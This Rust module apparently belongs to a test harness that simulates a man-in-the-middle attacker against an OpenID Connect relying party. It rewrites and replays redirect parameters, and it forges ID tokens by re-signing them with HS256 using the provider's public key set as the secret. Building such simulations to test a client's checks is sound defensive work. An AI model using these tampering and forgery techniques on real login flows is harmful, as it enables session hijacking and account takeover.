//! The attacker of the attack stories, standing between the AS and the RP
//! (in the browser, on the network): it remembers what it has seen and
//! changes an answer before the RP reads it. Only the RP's checks stand in
//! its way.
use std::collections::HashMap;

use oidc_story_proto::v1::OAuthResponse;
use serde_json::Value;

use crate::catalog::Tamper;

/// What the attacker has seen so far in a story.
#[derive(Debug, Default)]
pub struct Memory {
    /// The parameters of the last redirect it let through.
    redirect_params: HashMap<String, String>,
    /// The OP's public key set, as served (the text, byte for byte).
    jwks: Option<String>,
}

impl Memory {
    /// Learns from an answer that went through untouched.
    pub fn observe(&mut self, endpoint_is_jwks: bool, response: &OAuthResponse) {
        if endpoint_is_jwks {
            self.jwks = Some(response.body.clone());
        }
        if !response.location.is_empty() {
            self.redirect_params = redirect_params(&response.location).into_iter().collect();
        }
    }
}

/// The redirect's parameters: the fragment if it has one, else the query.
fn redirect_params(location: &str) -> Vec<(String, String)> {
    let Ok(url) = url::Url::parse(location) else {
        return Vec::new();
    };
    let source = url
        .fragment()
        .filter(|f| !f.is_empty())
        .or(url.query())
        .unwrap_or("");
    url::form_urlencoded::parse(source.as_bytes())
        .into_owned()
        .collect()
}

/// Rewrites the redirect with one parameter changed.
fn set_redirect_param(response: &mut OAuthResponse, name: &str, value: &str) -> Result<(), String> {
    let mut url = url::Url::parse(&response.location)
        .map_err(|_| "the answer is not a redirect".to_owned())?;
    let in_fragment = url.fragment().is_some_and(|f| !f.is_empty());
    let mut pairs = redirect_params(&response.location);
    match pairs.iter_mut().find(|(k, _)| k == name) {
        Some(pair) => pair.1 = value.to_owned(),
        None => pairs.push((name.to_owned(), value.to_owned())),
    }
    let encoded = url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish();
    if in_fragment {
        url.set_fragment(Some(&encoded));
    } else {
        url.set_query(Some(&encoded));
    }
    response.location = url.to_string();
    response
        .headers
        .insert("location".into(), response.location.clone());
    Ok(())
}

/// Applies `tamper` to the AS's answer; says what was done.
pub fn apply(
    tamper: Tamper,
    memory: &Memory,
    response: &mut OAuthResponse,
) -> Result<String, String> {
    match tamper {
        Tamper::RedirectParam(name, value) => {
            set_redirect_param(response, name, value)?;
            Ok(format!("the attacker set {name}={value} in the redirect"))
        }
        Tamper::ReplayRedirectParam(name) => {
            let old = memory
                .redirect_params
                .get(name)
                .ok_or_else(|| format!("the attacker has seen no {name} to replay"))?;
            set_redirect_param(response, name, old)?;
            Ok(format!(
                "the attacker replaced {name} with the one from the earlier login"
            ))
        }
        Tamper::Hs256IdToken => {
            let genuine = redirect_params(&response.location)
                .into_iter()
                .find(|(k, _)| k == "id_token")
                .map(|(_, v)| v)
                .ok_or("no id_token in the redirect to forge")?;
            let jwks = memory
                .jwks
                .as_ref()
                .ok_or("the attacker has not seen the OP's keys")?;
            let decoded =
                oauth_core::jose::decode_unverified(&genuine).map_err(|e| e.to_string())?;
            let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
            header.kid = decoded
                .header
                .get("kid")
                .and_then(Value::as_str)
                .map(str::to_owned);
            let forged = jsonwebtoken::encode(
                &header,
                &decoded.claims,
                &jsonwebtoken::EncodingKey::from_secret(jwks.as_bytes()),
            )
            .map_err(|e| e.to_string())?;
            set_redirect_param(response, "id_token", &forged)?;
            Ok("the attacker re-signed the ID token with HS256, the OP's public key set as the secret".into())
        }
    }
}
